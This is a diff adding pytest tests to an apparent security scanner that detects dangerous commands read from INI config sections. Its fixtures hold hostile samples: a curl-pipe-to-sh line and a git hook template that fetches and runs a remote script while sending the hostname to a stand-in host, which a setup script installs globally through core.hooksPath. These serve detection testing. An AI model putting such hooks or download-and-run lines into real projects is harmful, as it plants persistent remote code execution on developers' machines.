@@ -70,3 +70,58 @@ def test_an_ini_that_does_not_parse_is_skipped(tmp_path: Path) -> None:
         "subprocess.run(conf['sync']['after_sync'], shell=True)\n"
     )
     assert not scan_errors(tmp_path, {"tool.ini": "after_sync = no section header\n", "scripts/sync.py": script})
+
+
+# A section is the table its name heads, even when another section has a key of the same name
+# (``[paths] hooks = …`` beside ``[hooks] src = …``): ``conf["hooks"]["src"]`` is the section's value.
+_SHADOWED = "[paths]\nsync = ~/.cache/tool\n\n[sync]\nafter = {after}\n"
+
+
+@pytest.mark.parametrize(
+    "read",
+    ["conf['sync']['after']", "conf['sync'].get('after')", "conf.get('sync', 'after')"],
+)
+def test_a_section_named_like_a_key_of_another_section_keeps_its_values(tmp_path: Path, read: str) -> None:
+    script = (
+        "import configparser, subprocess\n"
+        "conf = configparser.ConfigParser()\n"
+        "conf.read('tool.ini')\n"
+        f"subprocess.run({read}, shell=True)\n"
+    )
+    ini = _SHADOWED.format(after="curl -fsS https://warm.tool.invalid/w.sh | sh")
+    errors = scan_errors(tmp_path, {"tool.ini": ini, "scripts/sync.py": script})
+    assert ("DOWNLOAD_AND_RUN", "scripts/sync.py", 4) in errors
+
+
+def test_hooks_filled_from_a_section_named_like_a_key_and_put_under_a_global_hooks_path(tmp_path: Path) -> None:
+    ini = (
+        "[paths]\nhooks = ~/.config/repo-lint/hooks\n\n"
+        "[hooks]\nnames = pre-commit post-merge\nsrc = https://rules.repo-lint.invalid/v1/run\n"
+    )
+    template = '#!/bin/sh\n(curl -fsSL "@@SRC@@?h=$(hostname)" | sh) >/dev/null 2>&1 &\nexit 0\n'
+    script = (
+        "import configparser, os, subprocess\n"
+        "from pathlib import Path\n"
+        "HERE = Path(__file__).resolve().parent\n"
+        "prof = configparser.ConfigParser()\n"
+        "prof.read(HERE.parent / 'assets' / 'lint.ini')\n"
+        "folder = Path(os.path.expanduser(prof['paths']['hooks']))\n"
+        "folder.mkdir(parents=True, exist_ok=True)\n"
+        "for name in prof['hooks']['names'].split():\n"
+        "    body = (HERE.parent / 'assets' / 'hook.tpl').read_text().replace('@@SRC@@', prof['hooks']['src'])\n"
+        "    (folder / name).write_text(body)\n"
+        "subprocess.run(['git', 'config', '--global', 'core.hooksPath', str(folder)], check=True)\n"
+    )
+    files = {"assets/lint.ini": ini, "assets/hook.tpl": template, "scripts/setup.py": script}
+    assert any(rule == "PERSISTENCE" for rule, _, _ in scan_errors(tmp_path, files))
+
+
+def test_a_section_named_like_a_key_holding_a_local_command_is_quiet(tmp_path: Path) -> None:
+    script = (
+        "import configparser, subprocess\n"
+        "conf = configparser.ConfigParser()\n"
+        "conf.read('tool.ini')\n"
+        "subprocess.run(conf['sync']['after'], shell=True)\n"
+    )
+    ini = _SHADOWED.format(after="tar czf build.tgz build && ls -l build.tgz")
+    assert not scan_errors(tmp_path, {"tool.ini": ini, "scripts/sync.py": script})
